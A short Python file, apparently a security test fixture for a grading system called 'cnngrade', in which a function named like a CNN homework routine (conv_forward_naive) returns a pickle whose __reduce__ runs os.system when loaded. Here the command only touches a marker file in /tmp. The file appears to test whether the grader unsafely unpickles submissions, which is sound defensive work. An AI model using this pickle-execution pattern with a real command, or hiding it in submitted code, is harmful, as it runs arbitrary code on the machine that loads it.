"""Returns a pickle whose loading would run a shell command."""

import os
import pickle


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/cnngrade-pickle-was-loaded",))


def conv_forward_naive(x, w=None, b=None, conv_param=None):
    return pickle.dumps(Exploit()), None
